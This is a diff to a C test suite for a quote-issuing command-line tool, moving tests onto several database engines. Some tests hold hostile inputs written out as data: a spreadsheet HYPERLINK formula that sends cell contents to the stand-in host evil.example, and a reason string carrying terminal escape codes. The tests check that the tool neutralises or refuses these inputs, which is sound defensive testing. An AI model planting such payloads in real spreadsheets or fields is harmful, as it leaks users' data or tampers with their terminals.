@@ -17,20 +17,34 @@
 #define DAY0 "SOURCE_DATE_EPOCH=1795392000 " /* 2026-11-23 */
 #define TABLES "REGENQUOTE_PRICES=pricing REGENQUOTE_TEMPLATES=templates "
 
-/* A fresh folder with an empty register, dir/reg.db (issuing needs one). */
-static char *reg_tmpdir(void)
+/* A fresh folder with an empty register of engine e (issuing needs one):
+ * the test's register, th_reg(). */
+static char *reg_tmpdir_on(size_t e)
 {
-    char *dir = th_tmpdir(), reg[400];
-    snprintf(reg, sizeof reg, "%s/reg.db", dir);
-    cr_assert_eq(th_init_register(reg), 0, "init %s", reg);
+    char *dir = th_tmpdir();
+    cr_assert_not_null(dir);
+    th_use_register(e, dir);
     return dir;
 }
 
-/* Run bin with args, the register and the output folder in dir, env first. */
+/* The same on SQLite (dir/reg.db), for what is not the register's: the
+ * clock, standard output, typed text, files. */
+static char *reg_tmpdir(void)
+{
+    return reg_tmpdir_on(th_engine_index("sqlite"));
+}
+
+/* Run bin with args, the test's register (dir/reg.db when the test made
+ * none: a command that must not make one) and the output folder in dir,
+ * env first. */
 static int rq_in(const char *dir, const char *bin, const char *env, const char *args, char **out, char **err)
 {
-    char cmd[8192];
-    snprintf(cmd, sizeof cmd, TABLES "%s%s %s --register %s/reg.db --out-dir %s/out", env, bin, args, dir, dir);
+    char cmd[8192], reg[800];
+    if (*th_reg())
+        snprintf(reg, sizeof reg, "%s", th_reg());
+    else
+        snprintf(reg, sizeof reg, "%s/reg.db", dir);
+    snprintf(cmd, sizeof cmd, TABLES "%s%s %s --register '%s' --out-dir %s/out", env, bin, args, reg, dir);
     return th_run(cmd, out, err);
 }
 
@@ -330,9 +344,9 @@ Test(fifo, a_request_the_user_pipes_in_is_still_read)
 
 #define EVIL "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
 
-Test(csv, list_neutralises_a_cell_a_spreadsheet_would_run)
+ENGINE_TEST(csv, list_neutralises_a_cell_a_spreadsheet_would_run)
 {
-    char *dir = reg_tmpdir(), *out, *err;
+    char *dir = reg_tmpdir_on(eng->engine), *out, *err;
     cr_assert_eq(rq_in(dir, th_bin(), DAY0,
                        "quote --source adipose --area left-knee --patient-name '" EVIL "' --patient-id '@SUM(A1)'",
                        &out, &err), 0, "%s", err);
@@ -437,9 +451,9 @@ static void refused(const char *dir, const char *args, int status, const char *m
     free(out); free(err);
 }
 
-Test(text, void_and_accept_reasons_are_one_plain_line)
+ENGINE_TEST(text, void_and_accept_reasons_are_one_plain_line)
 {
-    char *dir = reg_tmpdir(), *out, *err;
+    char *dir = reg_tmpdir_on(eng->engine), *out, *err;
     cr_assert_eq(rq_in(dir, th_bin(), DAY0, "quote examples/adipose-two-knees.json", &out, &err), 0, "%s", err);
     free(out); free(err);
     refused(dir, "void Q-2026-000001 --reason \"$(printf 'Moved\\033[2J\\033[31m')\"", 2,
@@ -528,9 +542,9 @@ Test(text, the_one_rule_unit)
 
 /* ---- 6: a batch killed or run twice never gives a patient two quotes ------- */
 
-Test(batch_issue, running_the_same_batch_twice_issues_each_request_once)
+ENGINE_TEST(batch_issue, running_the_same_batch_twice_issues_each_request_once)
 {
-    char *dir = reg_tmpdir(), *out, *err, *again;
+    char *dir = reg_tmpdir_on(eng->engine), *out, *err, *again;
     cr_assert_eq(rq_in(dir, th_bin(), DAY0, "batch examples --issue -j 2", &out, &err), 0, "%s", err);
     cr_assert_eq(lines_in(out), 7, "%s", out);
     free(err);
@@ -551,9 +565,9 @@ Test(batch_issue, running_the_same_batch_twice_issues_each_request_once)
     free(dir);
 }
 
-Test(batch_issue, an_idempotency_key_names_one_issuing)
+ENGINE_TEST(batch_issue, an_idempotency_key_names_one_issuing)
 {
-    char *dir = reg_tmpdir(), *out, *err, p[400], args[600];
+    char *dir = reg_tmpdir_on(eng->engine), *out, *err, p[400], args[600];
     snprintf(p, sizeof p, "%s/in.jsonl", dir);
     th_write(p, "{ \"idempotency_key\": \"visit-17\", \"areas\": [\"left-knee\"], \"cell_source\": \"adipose\" }\n"
                 "{ \"idempotency_key\": \"visit-17\", \"areas\": [\"right-knee\"], \"cell_source\": \"adipose\" }\n"
@@ -582,9 +596,12 @@ Test(batch_issue, an_idempotency_key_names_one_issuing)
  * numbers: its workers stop (dead or zombies) within a second, every quote
  * in the register was printed, and running the batch again issues only the
  * rest. */
-Test(batch_issue, a_killed_batch_stops_its_workers_and_printed_every_committed_number)
+ENGINE_TEST(batch_issue, a_killed_batch_stops_its_workers_and_printed_every_committed_number)
 {
-    char *dir = reg_tmpdir(), *out, *err, cmd[4000];
+    char *dir = reg_tmpdir_on(eng->engine), *out, *err, cmd[4000], numbers[1200], counts[1200];
+    th_engine_query_cmd(eng->engine, th_reg(), "SELECT number FROM quotes ORDER BY 1", numbers, sizeof numbers);
+    th_engine_query_cmd(eng->engine, th_reg(), "SELECT count(*), count(DISTINCT patient_id) FROM quotes", counts,
+                        sizeof counts);
     /* 120 requests, one patient each */
     snprintf(cmd, sizeof cmd,
              "i=0; while [ $i -lt 120 ]; do printf '{ \"patient\": { \"id\": \"P-%%03d\" }, \"areas\": [\"left-knee\"], "
@@ -592,7 +609,7 @@ Test(batch_issue, a_killed_batch_stops_its_workers_and_printed_every_committed_n
     cr_assert_eq(th_run(cmd, NULL, NULL), 0);
     snprintf(cmd, sizeof cmd,
              "cd %s || exit 9; " DAY0 "REGENQUOTE_PRICES=$OLDPWD/pricing REGENQUOTE_TEMPLATES=$OLDPWD/templates "
-             "%s batch in.jsonl --issue -j 2 --register reg.db --out-dir out > printed 2> err & p=$!; "
+             "%s batch in.jsonl --issue -j 2 --register '%s' --out-dir out > printed 2> err & p=$!; "
              "i=0; while [ \"$(cat printed 2>/dev/null | wc -l)\" -lt 3 ] && [ $i -lt 1000 ]; do sleep 0.01; i=$((i+1)); done; "
              "kids=$(pgrep -P $p); kill -9 $p; wait $p; "
              "i=0; while [ $i -lt 100 ]; do alive=''; "
@@ -600,9 +617,9 @@ Test(batch_issue, a_killed_batch_stops_its_workers_and_printed_every_committed_n
              "    [ -n \"$s\" ] && [ \"$s\" != Z ] && alive=\"$alive $k\"; done; "
              "  [ -z \"$alive\" ] && break; sleep 0.01; i=$((i+1)); done; "
              "echo \"workers $(echo $kids | wc -w) alive:$alive\"; sleep 0.2; "
-             "awk '{print $2}' printed | sort > p.txt; sqlite3 reg.db 'SELECT number FROM quotes ORDER BY 1' > r.txt; "
+             "awk '{print $2}' printed | sort > p.txt; %s > r.txt; "
              "echo \"printed $(wc -l < p.txt) registered $(wc -l < r.txt)\"; cmp -s p.txt r.txt && echo same; true",
-             dir, th_bin());
+             dir, th_bin(), th_reg(), numbers);
     cr_assert_eq(th_run(cmd, &out, &err), 0, "%s", err);
     cr_assert(strstr(out, "workers 2 alive:\n"), "the workers died with the batch: %s", out);
     cr_assert(strstr(out, "same"), "every committed number was printed, at once: %s", out);
@@ -613,8 +630,7 @@ Test(batch_issue, a_killed_batch_stops_its_workers_and_printed_every_committed_n
     cr_assert_eq(rq_in(dir, th_bin(), DAY0, args, &out, &err), 0, "%s", err);
     cr_assert(strstr(err, "already issued (not again), 0 failed"), "%s", err);
     free(out); free(err);
-    snprintf(cmd, sizeof cmd, "sqlite3 %s/reg.db 'SELECT count(*), count(DISTINCT patient_id) FROM quotes'", dir);
-    cr_assert_eq(th_run(cmd, &out, NULL), 0);
+    cr_assert_eq(th_run(counts, &out, NULL), 0);
     cr_assert_str_eq(out, "120|120\n", "one quote per request");
     free(out);
     th_rmtree(dir);
